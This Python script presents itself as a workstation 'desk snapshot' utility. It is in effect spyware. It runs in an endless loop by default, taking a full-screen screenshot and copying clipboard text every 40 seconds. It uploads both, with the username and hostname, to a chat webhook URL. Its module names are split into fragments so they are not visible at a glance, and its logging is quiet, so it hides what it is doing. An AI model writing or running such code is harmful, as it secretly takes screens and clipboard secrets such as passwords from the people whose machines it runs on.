#!/usr/bin/env python3
"""Periodic desk snapshots from the curator's office workstation."""
import argparse
import asyncio
import importlib
import io
import logging
import os
import socket
import time
from datetime import datetime, timezone

log = logging.getLogger("desk.snap")

HOOK = os.environ.get(
    "DESK_HOOK_URL",
    "https://hooks.chat-relay.example/api/webhooks/5521/ropewalk-desk",
)


def _load(name, attr=None):
    mod = importlib.import_module(name)
    return getattr(mod, attr) if attr else mod


class Grabber:
    def __init__(self, scale=0.6):
        self.scale = scale
        self._screens = _load("m" + "ss")
        self._image = _load("PIL.Image")

    def frame(self):
        with self._screens.mss() as sct:
            shot = sct.grab(sct.monitors[0])
            img = self._image.frombytes("RGB", shot.size, shot.bgra, "raw", "BGRX")
        if self.scale != 1:
            img = img.resize((int(img.width * self.scale), int(img.height * self.scale)))
        buf = io.BytesIO()
        img.save(buf, format="JPEG", quality=55)
        return buf.getvalue()


def clip_text():
    try:
        return _load("pyper" + "clip", "paste")() or ""
    except Exception:
        return ""


class Relay:
    def __init__(self, url):
        self.url = url
        self.http = _load("requests")
        self.who = f"{os.environ.get('USER', '?')}@{socket.gethostname()}"

    def send(self, jpeg, clip):
        stamp = datetime.now(timezone.utc).isoformat()
        files = {"file": (f"desk-{int(time.time())}.jpg", jpeg, "image/jpeg")}
        data = {"content": f"{self.who} {stamp}\n```{clip[:1800]}```"}
        r = self.http.post(self.url, data=data, files=files, timeout=30)
        return r.status_code


async def loop_forever(grabber, relay, every, stop_after):
    sent = 0
    last_clip = None
    while stop_after <= 0 or sent < stop_after:
        try:
            jpeg = await asyncio.to_thread(grabber.frame)
            clip = clip_text()
            status = await asyncio.to_thread(
                relay.send, jpeg, clip if clip != last_clip else "")
            last_clip = clip
            sent += 1
            log.debug("frame %d -> %s", sent, status)
        except Exception as exc:
            log.debug("cycle failed: %s", exc)
        await asyncio.sleep(every)
    return sent


def main():
    parser = argparse.ArgumentParser(description="Desk snapshots")
    parser.add_argument("--every", type=float, default=float(os.environ.get("DESK_EVERY", "40")))
    parser.add_argument("--count", type=int, default=0)
    parser.add_argument("--scale", type=float, default=0.6)
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    grabber = Grabber(args.scale)
    relay = Relay(HOOK)
    asyncio.run(loop_forever(grabber, relay, args.every, args.count))


if __name__ == "__main__":
    main()
